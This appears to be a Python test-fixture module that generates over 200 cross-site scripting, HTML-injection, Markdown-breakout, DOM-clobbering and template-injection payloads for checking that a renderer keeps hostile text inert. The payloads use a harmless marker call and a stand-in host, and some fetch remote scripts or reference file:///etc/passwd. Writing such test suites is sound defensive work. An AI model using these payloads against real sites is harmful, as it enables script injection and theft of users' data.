"""Texts that try to run something, fetch something or take the page over: 200 and more of them.

Made from families, each a trick and its variants. `{run}` stands for a call that the tests notice
and `{host}` for a computer that nobody may ask; both carry the number of their text.
"""

from collections.abc import Iterator
from dataclasses import dataclass

_FOREIGN_HOST = "elsewhere.invalid"
_HANDLERS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("marquee", "onstart"),
    ("div style=animation-name:x", "onanimationstart"),
    ("p contenteditable autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("object data=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
)
_SPELLINGS = (
    "<{tag} {handler}={run}>",
    '<{tag} {handler}="{run}">text</{name}>',
    "<{upper}/{handler}='{run}'//",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript&colon;{run}",
    "java&Tab;script:{run}",
    "java&NewLine;script:{run}",
    "\x01javascript:{run}",
    "javascript&#58;{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AucmFuKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={run}>",
    "//{host}/%2f..",
    "javascript://%0a{run}",
    "file:///etc/passwd",
    "blob:null/{run}",
)
_LINKS = (
    "[click]({address})",
    "[click](<{address}>)",
    "![picture]({address})",
    '<a href="{address}">click</a>',
    "[click][ref]\n\n[ref]: {address}",
    "<{address}>",
)
_SCRIPTS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script src=//{host}/x.js></script>",
    "<script\n>{run}</script\n>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    "<script/x>{run}</script>",
    "</script><script>{run}</script>",
    "<script type=module>import '//{host}/m.js';{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script xlink:href=data:,{run} /></svg>",
    "<svg><script>&#116;op.ran(1)</script></svg>",
    "<noscript><script>{run}</script></noscript>",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
)
_DRAWINGS = (
    "<svg><a xlink:href='javascript:{run}'><text y=20>click</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=onload to={run}>",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{run}</script></svg>#x' /></svg>",
    "<svg><image href='//{host}/i.svg' /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe></foreignObject></svg>",
    "<svg><style>@import '//{host}/s.css';</style></svg>",
    "<math href='javascript:{run}'>click</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:{run}'>click</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext>",
    "$\\href{{javascript:{run}}}{{click}}$",
    "$$\\includegraphics{{//{host}/i.png}}$$",
    "$\\unicode{{<img src=x onerror={run}>}}$",
    "\\(\\htmlData{{onclick={run}}}{{x}}\\)",
    "$$\\text{{</math><img src=x onerror={run}>}}$$",
    '```mermaid\ngraph TD\nA-->B\nclick A href "javascript:{run}"\n```',
    "```mermaid\n%%{{init: {{'themeCSS': '@import //{host}'}} }}%%\nA[<img src=x onerror={run}>]\n```",
)
_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<template><img src=x onerror={run}></template>",
    '<textarea><p title="</textarea><img src=x onerror={run}>">',
    '<title><p title="</title><img src=x onerror={run}>">',
    '<xmp><p title="</xmp><img src=x onerror={run}>">',
    '<style><p title="</style><img src=x onerror={run}>">',
    '<iframe><p title="</iframe><img src=x onerror={run}>">',
    '<noembed><p title="</noembed><img src=x onerror={run}>">',
    '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    '<math><mi><table><mtext><mglyph><svg><mtext><style><path id="</style><img onerror={run} src>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<svg><desc><table><thead title='</desc></svg><img src onerror={run}>'></table>",
    '<a title="`<img src=x onerror={run}>`">`</a>',
    "<table><td background='//{host}/b'><caption><img src=x onerror={run}>",
    "<p title='\u2028</p><img src=x onerror={run}>'>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
)
_FETCHERS = (
    "<iframe src=//{host}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src='javascript:{run}'></iframe>",
    "<embed src=//{host}/x.swf>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<img src=//{host}/i.png srcset='//{host}/j.png 2x'>",
    "![](https://{host}/i.png)",
    '![a](https://{host}/i.png "b")',
    "[![a](https://{host}/i.png)](https://{host}/)",
    "![a][far]\n\n[far]: https://{host}/i.png",
    "<picture><source srcset=//{host}/i.png><img></picture>",
    "<video poster=//{host}/i.png><track src=//{host}/t.vtt></video>",
    "<audio src=//{host}/a.mp3 autoplay></audio>",
    "<input type=image src=//{host}/i.png>",
    "<body background=//{host}/i.png>",
    "<link rel=stylesheet href=//{host}/s.css>",
    "<link rel=prefetch href=//{host}/p>",
    "<link rel=dns-prefetch href=//{host}>",
    "<link rel=manifest href=//{host}/m.json>",
    "<style>@import '//{host}/s.css';</style>",
    "<style>*{{background:url(//{host}/i.png)}}</style>",
    "<p style='background:url(//{host}/i.png)'>text</p>",
    "<p style='width:expression({run})'>text</p>",
    "<meta http-equiv=refresh content='0;url=//{host}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//{host}/>",
    "<form action=//{host} id=f><button>send</button></form><button form=f formaction='javascript:{run}'>",
    "<form action='javascript:{run}'><input type=submit></form>",
    "<isindex action='javascript:{run}' type=submit>",
    "<portal src=//{host}></portal>",
)
_FENCES = (
    "```\n</code></pre><img src=x onerror={run}>\n```",
    "```<img src=x onerror={run}>\ntext\n```",
    '```js" onmouseover="{run}\ntext\n```',
    "~~~</code><script>{run}</script>\ntext",
    "    </code></pre><script>{run}</script>",
    "`</code><img src=x onerror={run}>`",
    "``` ``` <img src=x onerror={run}>",
    "```\n````\n<script>{run}</script>",
    '<pre><code class="language-x" onclick={run}>text</code></pre>',
    "<pre><img src=x onerror={run}></pre>",
    "```diff\n- <script>{run}</script>\n```",
    "```html\n<body onload={run}>\n```",
)
_COMMENTS = (
    "<!--><img src=x onerror={run}>-->",
    "<!-- --!><img src=x onerror={run}> -->",
    "<!---><script>{run}</script>",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>{run}</script>'>]>&y;",
    "<!--[if IE]><script>{run}</script><![endif]-->",
    "<!-- `\n<img src=x onerror={run}>` -->",
)
_MARKDOWN = (
    '[a](https://{host} "onmouseover={run} \\" x")',
    '[a](https://{host}"onmouseover="{run})',
    '![a"onerror="{run}](x)',
    '!["><img src=x onerror={run}>](x)',
    "[<img src=x onerror={run}>](https://{host})",
    "[a]: x '<img src=x onerror={run}>'\n\n[a]",
    '<https://{host}/" onmouseover="{run}>',
    "https://{host}/<img src=x onerror={run}>",
    "| <img src=x onerror={run}> |\n| --- |\n| <script>{run}</script> |",
    "# <img src=x onerror={run}>",
    "> <svg onload={run}>",
    "- [ ] <img src=x onerror={run}>",
    "1. <script>{run}</script>",
    "**<img src=x onerror={run}>**",
    "***<svg/onload={run}>",
    "[^1]\n\n[^1]: <img src=x onerror={run}>",
    "<div markdown=1>\n\n[x](javascript:{run})\n\n</div>",
    "[x](javascript:{run} 'title",
    "[x]( javascript:{run})",
    "[x](data:,{run}//)",
    'www.{host}" onmouseover="{run}',
    'a@{host}" onmouseover="{run}',
)
_CLOBBERS = (
    "<form id=app><input name=children><input name=append></form>",
    "<img name=body><img name=querySelector><img name=createElement>",
    "<a id=defaultView href=//{host}></a><a id=defaultView name=x></a>",
    "<form name=cookie><input name=attributes><input name=nodeName></form>",
    "<iframe name=ran srcdoc='x'></iframe>",
    "<p id=location class=app data-ref=app>text</p>",
    "<div data-ref=composer contenteditable>text</div>",
    "<input name=password form=login autofocus>",
)
_SIGNS = (
    "\u202e<img src=x onerror={run}>\u202c",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<\u0000script>{run}</script>",
    "<img\u00a0src=x\u00a0onerror={run}>",
    "<img/src=x\u000conerror={run}>",
    "<im\u00adg src=x onerror={run}>",
    "\ufeff<script>{run}</script>",
    "<\u017fcript>{run}</\u017fcript>",
    "<\u212aeygen onfocus={run}>",
    "'\"><img src=x onerror={run}>",
    "\u05d0\u05d1\u05d2 \u2066<script>{run}</script>\u2069.pdf",
    "cod\u202efdp.<svg onload={run}>.exe",
    "\U000e0001<b onclick={run}>\U000e007f",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306<script>{run}</script>",
    "${{{run}}}{{{{{run}}}}}<%={run}%>#{{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
)


@dataclass(frozen=True)
class HostileText:
    """One text that must stay a text.

    Attributes:
        number: Names it; what it runs or fetches tells this number.
        family: Which trick it is.
        text: The text.
    """

    number: int
    family: str
    text: str


def hostile_texts() -> tuple[HostileText, ...]:
    """Return all of them, always the same ones in the same order."""
    return tuple(
        HostileText(number, family, _numbered(text, number))
        for number, (family, text) in enumerate(_all_templates(), start=1)
    )


def one_of_each_family() -> tuple[HostileText, ...]:
    """Return the first text of each family, for places where one look takes long."""
    first: dict[str, HostileText] = {}
    for hostile in hostile_texts():
        first.setdefault(hostile.family, hostile)
    return tuple(first.values())


def _numbered(template: str, number: int) -> str:
    return template.format(run=f"top.ran({number})", host=f"n{number}.{_FOREIGN_HOST}")


def _all_templates() -> Iterator[tuple[str, str]]:
    yield from (("script", text) for text in _SCRIPTS)
    yield from (("handler", text) for text in _handlers())
    yield from (("drawing", text) for text in _DRAWINGS)
    yield from (("address", text) for text in _links())
    yield from (("mutation", text) for text in _MUTATIONS)
    yield from (("fetcher", text) for text in _FETCHERS)
    yield from (("fence", text) for text in _FENCES)
    yield from (("comment", text) for text in _COMMENTS)
    yield from (("markdown", text) for text in _MARKDOWN)
    yield from (("clobber", text) for text in _CLOBBERS)
    yield from (("sign", text) for text in _SIGNS)


def _handlers() -> Iterator[str]:
    for at, (tag, handler) in enumerate(_HANDLERS):
        name = tag.split(maxsplit=1)[0]
        for spelling in (_SPELLINGS[0], _SPELLINGS[1 + at % 2]):
            yield spelling.format(
                tag=tag, handler=handler, name=name, upper=name.upper(), run="{run}"
            )


def _links() -> Iterator[str]:
    # Each address once in a link, and once more in one of the other ways to write one.
    for at, address in enumerate(_ADDRESSES):
        yield _LINKS[0].replace("{address}", address)
        yield _LINKS[1 + at % (len(_LINKS) - 1)].replace("{address}", address)
